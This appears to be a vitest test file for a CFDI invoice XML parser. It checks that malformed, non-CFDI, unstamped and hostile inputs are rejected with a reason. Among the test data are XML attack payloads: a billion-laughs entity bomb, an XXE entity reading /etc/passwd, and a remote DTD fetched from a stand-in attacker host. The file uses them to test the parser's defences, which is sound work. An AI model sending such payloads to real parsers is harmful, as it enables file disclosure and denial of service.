import { describe, expect, it } from "vitest";
import { parseCfdi, type ParseCfdiResult } from "../../../../../server/domain/cfdi/index";
import { cfdiText } from "../../../../helpers/cfdi-fixtures";

/**
 * A30-CFDI-07: hostile, malformed, non-CFDI and unstamped inputs are rejected with the reason and
 * nothing is returned to store; the guards run before parsing and are fast.
 */
const REAL = cfdiText("cfdi40-real.xml");
const CFDI_OPEN = '<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4"';

function timed(run: () => ParseCfdiResult): { result: ParseCfdiResult; ms: number } {
  const start = performance.now();
  const result = run();
  return { result, ms: performance.now() - start };
}

function rejection(result: ParseCfdiResult): { code: string; reason: string } {
  if (result.ok) throw new Error("se esperaba un rechazo");
  return result;
}

describe("hostile XML (A30-CFDI-07: no DTD, no entities, size limit)", () => {
  it("billion laughs: rejected as «DTD no permitido» in well under a second, nothing expanded", () => {
    const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
    const xml = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${entities}]>${CFDI_OPEN} Version="4.0">&lol9;</cfdi:Comprobante>`;
    const { result, ms } = timed(() => parseCfdi(xml));
    expect(rejection(result)).toMatchObject({ code: "dtd_forbidden", reason: expect.stringContaining("DTD no permitido") });
    expect(ms).toBeLessThan(1000);
  });

  it("external entity (XXE, file:///etc/passwd) inside a real CFDI: rejected, the file is never read", () => {
    const xml = REAL.replace('<?xml version="1.0"?>', '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('Nombre="CARLOS CORTES SOTO"', 'Nombre="&xxe;"');
    const { result, ms } = timed(() => parseCfdi(xml));
    expect(rejection(result)).toMatchObject({ code: "dtd_forbidden", reason: expect.stringContaining("DTD no permitido") });
    expect(JSON.stringify(result)).not.toContain("root:");
    expect(ms).toBeLessThan(1000);
  });

  it("parameter entity pulling a remote DTD: rejected before any parsing", () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; %payload;]>${CFDI_OPEN} Version="4.0"/>`;
    const { result, ms } = timed(() => parseCfdi(xml));
    expect(rejection(result).code).toBe("dtd_forbidden");
    expect(ms).toBeLessThan(1000);
  });

  it("an <!ENTITY> declaration without DOCTYPE and an undeclared entity reference are rejected too", () => {
    expect(rejection(parseCfdi(`<!ENTITY x "y">${REAL}`))).toMatchObject({ code: "dtd_forbidden", reason: expect.stringContaining("<!ENTITY>") });
    const undeclared = REAL.replace('Nombre="CARLOS CORTES SOTO"', 'Nombre="&xxe;"');
    expect(rejection(parseCfdi(undeclared))).toMatchObject({ code: "entity_forbidden", reason: expect.stringContaining("&xxe;") });
  });

  it("the five predefined entities and character references are decoded (and nothing else)", () => {
    const xml = REAL.replace('Nombre="CARLOS CORTES SOTO"', 'Nombre="CORTES &amp; SOTO &lt;&gt;&quot;&apos; &#209;&#xD1;"');
    const result = parseCfdi(xml);
    expect(result.ok && result.cfdi.receptor.nombre).toBe("CORTES & SOTO <>\"' ÑÑ");
  });

  it("a 50 MB file is refused by size before decoding or parsing (string and bytes, < 1 s)", () => {
    const fifty = 50 * 1024 * 1024;
    // Well-formed CFDI padded with a comment: parsing it would succeed, so "too_large" proves the order.
    const padded = REAL.replace("<cfdi:Emisor", `<!--${" ".repeat(fifty)}--><cfdi:Emisor`);
    const asString = timed(() => parseCfdi(padded));
    expect(rejection(asString.result)).toMatchObject({ code: "too_large", reason: expect.stringContaining("máximo 5242880 bytes") });
    expect(asString.ms).toBeLessThan(1000);
    // Invalid UTF-8 and not XML at all: decoding or parsing first would give another code.
    const garbage = Buffer.alloc(fifty, 0xff);
    const asBytes = timed(() => parseCfdi(garbage));
    expect(rejection(asBytes.result)).toMatchObject({ code: "too_large", reason: `archivo demasiado grande: ${fifty} bytes (máximo 5242880 bytes)` });
    expect(asBytes.ms).toBeLessThan(1000);
  });

  it("maxBytes sets the limit: the same document passes under a larger limit and fails under a smaller one", () => {
    const size = Buffer.byteLength(REAL);
    expect(parseCfdi(REAL, { maxBytes: size }).ok).toBe(true);
    expect(rejection(parseCfdi(REAL, { maxBytes: size - 1 })).code).toBe("too_large");
    expect(() => parseCfdi(REAL, { maxBytes: -1 })).toThrow(TypeError);
  });

  it("binary and non-UTF-8 input is rejected", () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d]);
    expect(rejection(parseCfdi(png)).code).toBe("not_utf8");
    expect(rejection(parseCfdi(Buffer.from(`\uFEFF${REAL}`, "utf16le"))).code).toBe("not_utf8");
    expect(rejection(parseCfdi(Buffer.from(REAL.replace("CARLOS", "CAR\u0000LOS"))))).toMatchObject({ code: "binary", reason: expect.stringContaining("U+0000") });
    // A Latin-1 file (Ñ as the single byte 0xD1) is not UTF-8.
    expect(rejection(parseCfdi(Buffer.from(REAL.replace("CORTES", "CORTÑS"), "latin1"))).code).toBe("not_utf8");
    expect(rejection(parseCfdi(Buffer.from([0x3c, 0x61, 0xc3, 0x28, 0x3e])))).toMatchObject({ code: "not_utf8" });
    expect(rejection(parseCfdi(""))).toMatchObject({ code: "empty" });
  });

  it("a UTF-8 BOM is accepted; a non-UTF-8 encoding declaration is not", () => {
    expect(parseCfdi(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(REAL)])).ok).toBe(true);
    const latin = REAL.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="ISO-8859-1"?>');
    expect(rejection(parseCfdi(latin))).toMatchObject({ code: "unsupported_encoding", reason: expect.stringContaining("ISO-8859-1") });
  });
});

describe("malformed, non-CFDI and unstamped documents (rejected with the reason)", () => {
  it("malformed XML reports line and column", () => {
    const truncated = REAL.slice(0, REAL.indexOf("<cfdi:Conceptos>"));
    expect(rejection(parseCfdi(truncated))).toMatchObject({ code: "malformed", reason: expect.stringMatching(/^XML mal formado \(línea \d+, columna \d+\)/) });
    const mismatched = REAL.replace("</cfdi:Conceptos>", "</cfdi:Concepto>");
    expect(rejection(parseCfdi(mismatched)).reason).toMatch(/línea 20, columna \d+/);
    expect(rejection(parseCfdi(`${REAL}<otro/>`))).toMatchObject({ code: "malformed", reason: expect.stringContaining("un solo elemento raíz") });
    expect(rejection(parseCfdi(REAL.replace('Moneda="MXN"', 'Moneda="MXN" Moneda="USD"'))).code).toBe("malformed");
    expect(rejection(parseCfdi(REAL.replace('Nombre="CARLOS CORTES SOTO"', 'Nombre="A<B"'))).code).toBe("malformed");
    expect(rejection(parseCfdi(REAL.replace("<cfdi:Emisor", "<x:Emisor").replace('RegimenFiscal="601"/>', 'RegimenFiscal="601"></x:Emisor>')))).toMatchObject({
      code: "malformed",
      reason: expect.stringContaining("prefijo de espacio de nombres no declarado «x»"),
    });
    expect(rejection(parseCfdi("esto no es XML")).code).toBe("malformed");
  });

  it("a well-formed document that is not a CFDI: «no es un CFDI»", () => {
    expect(rejection(parseCfdi('<?xml version="1.0"?><factura total="10"/>'))).toEqual({
      ok: false,
      code: "not_cfdi",
      reason: "no es un CFDI: el elemento raíz es <factura> (se espera cfdi:Comprobante)",
    });
    expect(rejection(parseCfdi("<html><body>hola</body></html>")).code).toBe("not_cfdi");
  });

  it("cfdi:Comprobante in a wrong or missing namespace: «no es un CFDI»", () => {
    const wrong = rejection(parseCfdi(REAL.replace('xmlns:cfdi="http://www.sat.gob.mx/cfd/4"', 'xmlns:cfdi="http://www.sat.gob.mx/cfd/5"')));
    expect(wrong).toMatchObject({ code: "not_cfdi", reason: expect.stringContaining("http://www.sat.gob.mx/cfd/5") });
    expect(rejection(parseCfdi('<Comprobante Version="4.0"/>')).code).toBe("not_cfdi");
  });

  it("unsupported versions: CFDI 3.2, or a Version that does not match its namespace", () => {
    const v32 = cfdiText("cfdi33-real.xml").replace('Version="3.3"', 'Version="3.2"');
    expect(rejection(parseCfdi(v32))).toEqual({ ok: false, code: "unsupported_version", reason: "versión de CFDI no soportada: «3.2» (se aceptan 3.3 y 4.0)" });
    expect(rejection(parseCfdi(REAL.replace('Version="4.0"', 'Version="3.3"'))).code).toBe("unsupported_version");
  });

  it("a CFDI without TimbreFiscalDigital: «CFDI sin timbrar»", () => {
    const unstamped = REAL.replace(/<tfd:TimbreFiscalDigital[^>]*\/>/, "");
    expect(unstamped).not.toContain("TimbreFiscalDigital ");
    expect(rejection(parseCfdi(unstamped))).toMatchObject({ code: "unstamped", reason: expect.stringContaining("CFDI sin timbrar") });
    // A TFD outside cfdi:Complemento does not count.
    const misplaced = unstamped.replace("</cfdi:Comprobante>", '<cfdi:Addenda><tfd:TimbreFiscalDigital xmlns:tfd="http://www.sat.gob.mx/TimbreFiscalDigital" UUID="C2832671-DA6D-11EF-A83D-00155D012007"/></cfdi:Addenda></cfdi:Comprobante>');
    expect(rejection(parseCfdi(misplaced)).code).toBe("unstamped");
  });

  it("a malformed or placeholder UUID in the TFD (A30-CFDI-03)", () => {
    const noHyphens = REAL.replace('UUID="C2832671-DA6D-11EF-A83D-00155D012007"', 'UUID="C2832671DA6D11EFA83D00155D012007"');
    expect(rejection(parseCfdi(noHyphens))).toMatchObject({ code: "invalid_uuid", reason: expect.stringContaining("C2832671DA6D11EFA83D00155D012007") });
    const zero = REAL.replace('UUID="C2832671-DA6D-11EF-A83D-00155D012007"', 'UUID="00000000-0000-0000-0000-000000000000"');
    expect(rejection(parseCfdi(zero)).code).toBe("invalid_uuid");
  });

  it("missing required parts and an unknown TipoDeComprobante", () => {
    expect(rejection(parseCfdi(REAL.replace(/<cfdi:Emisor[^>]*\/>/, "")))).toEqual({ ok: false, code: "invalid_structure", reason: "CFDI incompleto: falta cfdi:Emisor" });
    expect(rejection(parseCfdi(REAL.replace('TipoDeComprobante="I"', 'TipoDeComprobante="X"')))).toMatchObject({ code: "invalid_type" });
  });

  it("every rejection is fast", () => {
    const inputs = [REAL.replace('Version="4.0"', 'Version="9.9"'), "<a>", REAL.replace(/<tfd:TimbreFiscalDigital[^>]*\/>/, "")];
    for (const input of inputs) expect(timed(() => parseCfdi(input)).ms).toBeLessThan(1000);
  });
});

describe("namespace handling", () => {
  it("recognises the CFDI by namespace URI, not by prefix: another prefix or a default namespace parse the same and the seal still verifies", () => {
    const original = parseCfdi(REAL);
    const renamed = REAL.replaceAll("cfdi:", "c4:").replace("xmlns:cfdi=", "xmlns:c4=");
    const defaultNs = REAL.replaceAll("<cfdi:", "<").replaceAll("</cfdi:", "</").replace('xmlns:cfdi="http://www.sat.gob.mx/cfd/4"', 'xmlns="http://www.sat.gob.mx/cfd/4"');
    for (const variant of [renamed, defaultNs]) {
      const result = parseCfdi(variant);
      if (!result.ok || !original.ok) throw new Error("se esperaba aceptado");
      expect(result.cfdi.uuid).toBe(original.cfdi.uuid);
      expect(result.cfdi.conceptos).toEqual(original.cfdi.conceptos);
      expect(result.checks.checks.find((c) => c.id === "sello_cfdi")?.ok).toBe(true);
    }
  });

  it("a Comprobante-like document in a foreign namespace inside the CFDI is not taken for CFDI content", () => {
    const foreign = REAL.replace("<cfdi:Conceptos>", '<x:Conceptos xmlns:x="urn:otro"><x:Concepto Importe="999"/></x:Conceptos><cfdi:Conceptos>');
    const result = parseCfdi(foreign);
    expect(result.ok && result.cfdi.conceptos.map((c) => c.importe)).toEqual(["8.620690", "853.448276"]);
  });
});
